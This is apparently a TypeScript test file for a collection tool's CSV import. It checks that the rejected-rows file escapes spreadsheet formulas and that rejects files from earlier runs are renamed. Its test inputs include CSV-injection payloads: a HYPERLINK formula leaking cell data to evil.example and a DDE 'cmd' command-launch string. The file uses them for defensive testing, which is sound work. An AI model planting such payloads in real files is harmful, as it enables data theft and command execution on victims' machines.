/** The file of rejected rows: what a spreadsheet makes of it, and what happens to one from an earlier run. */

import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, onTestFinished, test } from "vitest";
import { openRejects } from "../../cli/imports/rejects-file.ts";
import { readCsv } from "../../src/imports/csv/csv.ts";
import { rejectsWriter } from "../../src/imports/csv/rejects.ts";
import { csvTable } from "../../src/imports/csv/table.ts";
import { inLong } from "../support/lane/lane.ts";
import { quickest } from "../support/museum/museum.ts";
import { openOffice } from "../support/programs/command.ts";

async function* once(text: string) {
  yield text;
}

async function read(text: string) {
  const table = await csvTable(readCsv(once(text)));
  const rows = [];
  for await (const batch of table.rows) rows.push(...batch);
  return { header: table.header, rows };
}

/** What the rejects file contains for a cell, and what is read back from it. */
async function roundTrip(cell: string) {
  const { head, row } = rejectsWriter(["No", "Text"]);
  const text = head + row({ line: 2, cells: ["1", cell] }, ["=why"], String);
  const written = [];
  for await (const batch of readCsv(once(text))) written.push(...batch);
  const { rows } = await read(text);
  expect(written[1]!.cells[1]).toBe("'=why");
  return { shown: written[1]!.cells[3], back: rows[0]!.values.get("Text") };
}

describe("the rejects file", () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["+1 2 3", "'+1 2 3"],
    ["-0044-03-15", "'-0044-03-15"],
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ["\t=1", "'\t=1"],
    // of an export, from which an import takes one apostrophe
    ["'=1", "''=1", "=1"],
    ["''-x", "'''-x", "'-x"],
    ["-5", "-5"],
    ["+3,5", "+3,5"],
    ["-0044", "-0044"],
    ["-", "-"],
    ["'t Hooft", "'t Hooft"],
    ["a=b", "a=b"],
    ["", ""],
  ])(
    "contains no formula for a spreadsheet, and is read back unchanged: %j",
    async (cell, shown, back = cell) => {
      expect(await roundTrip(cell)).toEqual({ shown, back });
    },
  );

  test("escapes columns that are named like formulas, too, round after round", async () => {
    let { header, rows } = await read("No,=1+1\n1,@x\n");
    for (let round = 0; round < 3; round++) {
      const { head, row } = rejectsWriter(header);
      const text = head + row(rows[0]!, ["still bad"], String);
      expect(text).toBe("\uFEFF_line,_reason,No,'=1+1\r\n2,still bad,1,'@x\r\n");
      ({ header, rows } = await read(text));
      expect([...rows[0]!.values].slice(2)).toEqual([
        ["No", "1"],
        ["=1+1", "@x"],
      ]);
    }
  });

  test.each([
    ["'=1", "=1"],
    ["'-0699/-0499", "-0699/-0499"],
    ["'- on the artist's hand", "- on the artist's hand"],
    ["''+ ANNO 1756'", "'+ ANNO 1756'"],
    ["'+ ANNO 1756'", "'+ ANNO 1756'"],
    ["'t Hooft", "'t Hooft"],
  ])("any list loses the apostrophe of an export, but not that of a quotation: %j", async (cell, value) => {
    const { rows } = await read(`No,Text\n1,"${cell}"\n`);
    expect([rows[0]!.values.get("Text"), rows[0]!.cells[1]]).toEqual([value, cell]);
  });
});

describe("a rejects file of an earlier run", () => {
  let directory: string;
  beforeEach(async () => {
    directory = await mkdtemp(join(tmpdir(), "svc-rejects-"));
    await writeFile(join(directory, "works.csv"), "No\n1\n");
    await writeFile(join(directory, "works.rejects.csv"), "of the first run");
  });
  afterEach(() => rm(directory, { recursive: true }));
  const open = () => openRejects(join(directory, "works.rejects.csv"), join(directory, "works.csv"));
  const moved = () => join(directory, "works.rejects.1.csv");

  test("is renamed when no row is rejected any more", async () => {
    const rejects = await open();
    expect(await rejects.keep()).toEqual({ path: null, moved: moved() });
    expect(await readdir(directory)).toEqual(["works.csv", "works.rejects.1.csv"]);
    expect(await readFile(moved(), "utf8")).toBe("of the first run");
    expect(await (await open()).keep()).toEqual({ path: null, moved: null });
  });

  test("is renamed when there is a new one", async () => {
    const rejects = await open();
    await rejects.write("of this run");
    expect(await rejects.keep()).toEqual({ path: join(directory, "works.rejects.csv"), moved: moved() });
    expect(await readFile(join(directory, "works.rejects.csv"), "utf8")).toBe("of this run");
  });

  test("stays where it is when the import does not finish", async () => {
    await (await open()).drop();
    expect(await readdir(directory)).toEqual(["works.csv", "works.rejects.csv"]);
  });
});

inLong(test)(
  "import-csv, run again with a corrected list, leaves no rejects file that seems to be from this run",
  async () => {
    const office = await openOffice(quickest);
    onTestFinished(() => office.close());
    await office.put("works.json", JSON.stringify({ No: "__idno__", Title: "title" }));
    const run = () => office.run("import-csv", "works.csv", "--type", "object", "--mapping", "works.json");
    await office.put("works.csv", "No,Title\n1,Boat\n,Gate\n");
    expect((await run()).code).toBe(3);
    const first = await office.read("works.rejects.csv");
    await office.put("works.csv", "No,Title\n1,Boat\n2,Gate\n");
    const { code, err } = await run();
    expect(code).toBe(0);
    await expect(office.read("works.rejects.csv")).rejects.toThrow("ENOENT");
    expect(err).toMatch(/^The earlier rejects file was renamed to \S+works\.rejects\.1\.csv$/);
    expect(await office.read("works.rejects.1.csv")).toBe(first);
  },
);
